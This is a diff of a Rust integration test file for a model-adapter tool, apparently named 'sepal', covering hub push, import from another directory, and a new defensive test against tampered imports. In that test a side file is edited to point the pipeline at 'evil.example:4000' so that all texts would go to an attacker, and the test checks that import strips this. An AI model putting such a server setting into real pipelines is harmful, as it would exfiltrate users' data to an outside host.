@@ -5,6 +5,7 @@ use std::fs;
 use std::process::{Command, Output};
 
 use sepal_testkit::hub::{LoopbackHub, TOKEN};
+use serde_json::Value;
 
 use crate::program::Bench;
 
@@ -30,7 +31,12 @@ fn succeeds(command: Command) -> String {
 #[test]
 fn a_classifier_goes_to_the_hub_and_predicts_elsewhere() {
     let bench = Bench::new("llama-gqa");
-    let trained = bench.run(&["train.max_steps=3", r#"data.template="It says: {text}""#]);
+    let here = bench.path("").display().to_string();
+    let sets = [("model.source", "model"), ("data.train", "train.csv"), ("data.validation", "validation.csv")];
+    let mut sets: Vec<String> = sets.iter().map(|(key, name)| format!("{key}={here}{name}")).collect();
+    sets.extend(["train.max_steps=3".to_owned(), r#"data.template="It says: {text}""#.to_owned()]);
+    let trained = bench.run(&sets.iter().map(String::as_str).collect::<Vec<_>>());
+    assert!(fs::read_to_string(trained.folder.join("manifest.json")).expect("a manifest").contains(&here));
     let folder = trained.folder.to_str().expect("a path");
     let hub = LoopbackHub::new([]);
 
@@ -55,10 +61,9 @@ fn a_classifier_goes_to_the_hub_and_predicts_elsewhere() {
     let expected =
         ["README.md", "adapter_config.json", "adapter_model.safetensors", "sepal.json", "sepal_adapter.safetensors"];
     assert_eq!(names, expected);
-    let here = bench.path("").display().to_string();
     for (name, content) in &pushed {
         let text = String::from_utf8_lossy(content);
-        assert!(!text.contains(&here) && !text.contains("/tmp"), "{name} tells of this machine");
+        assert!(!text.contains(&here), "{name} tells of this machine");
     }
     let card = String::from_utf8_lossy(&pushed["README.md"]).into_owned();
     assert!(card.contains(r#"template = "It says: {text}""#) && card.contains("max_length="), "{card}");
@@ -67,13 +72,53 @@ fn a_classifier_goes_to_the_hub_and_predicts_elsewhere() {
     assert!(again.contains("nothing was pushed"), "{again}");
     assert_eq!(hub.commits().len(), 1);
 
-    let said = succeeds(somebody(&bench, &hub, &["import", "peft", "hub:me/reviews", "classifier"]));
-    assert!(said.contains("`sepal predict classifier --input FILE`"), "{said}");
+    // Elsewhere no path of before leads anywhere.
+    fs::create_dir(bench.path("elsewhere")).expect("a folder");
+    let mut import = somebody(&bench, &hub, &["import", "peft", "hub:me/reviews", "classifier"]);
+    import.current_dir(bench.path("elsewhere"));
+    let said = succeeds(import);
+    assert!(said.contains("`sepal predict classifier --input FILE --set model.source=SOURCE`"), "{said}");
+    let (rows, model) = (format!("{here}validation.csv"), format!("model.source={here}model"));
     let predicted = |run: &str| {
-        let args = ["predict", run, "-i", "validation.csv", "--probabilities", "--set", "model.source=model"];
-        run_to_stdout(bench.sepal(&args))
+        let args = ["predict", run, "-i", &rows, "--probabilities", "--set", &model];
+        let mut command = bench.sepal(&args);
+        command.current_dir(bench.path("elsewhere"));
+        run_to_stdout(command)
     };
     assert_eq!(predicted("classifier"), predicted(folder));
+}
+
+#[test]
+fn the_pipeline_of_a_stranger_can_do_no_harm() {
+    let bench = Bench::new("llama-gqa");
+    let trained = bench.run(&["train.max_steps=1"]);
+    let folder = trained.folder.to_str().expect("a path");
+    succeeds(bench.sepal(&["export", "peft", folder, "export", "--base-model", "me/tiny"]));
+    let side = bench.path("export/sepal.json");
+    let honest: Value = serde_json::from_slice(&fs::read(&side).expect("a file")).expect("JSON");
+    let with = |pipeline: &str| {
+        let mut side_file = honest.clone();
+        side_file["run"]["pipeline"] = pipeline.into();
+        fs::write(&side, side_file.to_string()).expect("written");
+    };
+    let pipeline = honest["run"]["pipeline"].as_str().expect("a pipeline").to_owned();
+    assert!(pipeline.contains("use: embedded"), "{pipeline}");
+    // It would have all texts sent to its author.
+    with(
+        &pipeline
+            .replace("use: embedded", "use: static")
+            .replace("tape_budget_mb: 4096", "servers: ['evil.example:4000']"),
+    );
+    let changed = fs::read_to_string(&side).expect("a file");
+    assert!(changed.contains("evil.example"), "{changed}");
+    succeeds(bench.sepal(&["import", "peft", "export", "imported"]));
+    let imported = fs::read_to_string(bench.path("imported/pipeline.yaml")).expect("a pipeline");
+    assert!(imported.contains("use: embedded") && !imported.contains("evil.example"), "{imported}");
+    // What nobody understands is left out, with a word.
+    with("nonsense: 1");
+    let said = succeeds(bench.sepal(&["import", "peft", "export", "alone"]));
+    assert!(said.contains("the adapter comes without its run") && said.contains("nonsense"), "{said}");
+    assert!(bench.path("alone/adapter.safetensors").is_file() && !bench.path("alone/pipeline.yaml").exists());
 }
 
 fn run_to_stdout(command: Command) -> String {
